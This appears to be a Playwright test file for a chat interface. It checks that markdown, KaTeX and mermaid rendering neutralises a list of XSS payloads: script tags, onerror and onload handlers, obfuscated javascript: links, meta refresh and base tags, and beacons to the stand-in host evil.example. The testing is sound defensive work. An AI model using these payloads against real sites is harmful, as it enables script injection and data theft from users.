import { answered, answers, ask, chooseModel, expect, signUp, test } from "./people";

const PAYLOADS = [
  "<script>window.hit=1</script><img src=x onerror=window.hit=2>",
  "[click](javascript:window.hit=3) [data](data:text/html,<script>window.hit=4</script>) [vb](vbscript:x)",
  "[entity](&#106;avascript:window.hit=5) [tab](java\tscript:window.hit=6) <javascript:window.hit=7>",
  '![track](https://evil.example/pixel?q=secret) ![alt" onerror="window.hit=8](https://evil.example/a.png)',
  "$\\href{javascript:window.hit=9}{x}$ $\\url{javascript:window.hit=10}$ $\\htmlData{a=b}{x}$ $\\includegraphics{https://evil.example/k.png}$ $\\unknown{<img src=x onerror=window.hit=11>}$",
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><iframe srcdoc="<script>parent.hit=12</script>"></iframe>',
  "<svg onload=window.hit=13><style>@import 'https://evil.example/x.css'</style></svg>",
  "```html\n<script>window.hit=14</script>\n```",
  '[![inner](https://evil.example/i.png)](javascript:window.hit=15) [ref][1]\n\n[1]: javascript:window.hit=16 "t"',
];
const FRAMED = [
  '```mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph TD\n  A["<img src=https://evil.example/m.png onerror=alert(17)>"] --> B\n  click A href "javascript:alert(18)"\n  click B call alert(19)\n```',
  '```mermaid\ngraph TD\n  A["<script>parent.hit=20</script>"] --> B["<a href=\'javascript:alert(21)\'>x</a>"]\n  style A fill:url(https://evil.example/f.svg)\n```',
];

test.beforeEach(async ({ page }) => {
  await signUp(page);
  await chooseModel(page, "echo:test");
});

test("nothing in an answer runs or is fetched by itself", async ({ page, baseURL, complaints }) => {
  test.slow();
  const strangers: string[] = [];
  page.on("request", (request) => {
    if (!/^(?:data|blob):/.test(request.url()) && !request.url().startsWith(baseURL as string))
      strangers.push(request.url());
  });
  page.on("dialog", (dialog) => {
    strangers.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });

  for (const payload of PAYLOADS) {
    await ask(page, payload);
    await answered(page);
  }
  for (const payload of FRAMED) {
    await ask(page, payload);
    await answered(page);
    await expect(
      answers(page)
        .last()
        .getByText(/Show its source|could not be drawn/),
    ).toBeVisible({ timeout: 20_000 });
  }

  // Mermaid parses what it is about to clean; in its frame, the policy stops what would run meanwhile.
  for (const complaint of complaints.splice(0))
    expect(complaint).toMatch(/violates the following Content Security Policy/);

  const found = await page.evaluate(() => ({
    hit: (window as unknown as { hit?: number }).hit,
    elements: [
      ...document.querySelectorAll("article script, article iframe, article svg style, article base, article meta"),
    ].length,
    links: [...document.querySelectorAll("article a")].map((link) => (link as HTMLAnchorElement).protocol),
    images: [...document.querySelectorAll("article img")].map(
      (image) => new URL((image as HTMLImageElement).src).protocol,
    ),
    handlers: [...document.querySelectorAll("article *")].filter((one) =>
      [...one.attributes].some(({ name }) => name.startsWith("on")),
    ).length,
  }));
  expect(strangers).toEqual([]);
  expect(found.hit).toBeUndefined();
  expect(found.elements + found.handlers).toBe(0);
  expect(found.links.every((protocol) => /^(?:https?|mailto):$/.test(protocol))).toBe(true);
  expect(found.images.every((protocol) => protocol === "blob:")).toBe(true);
});
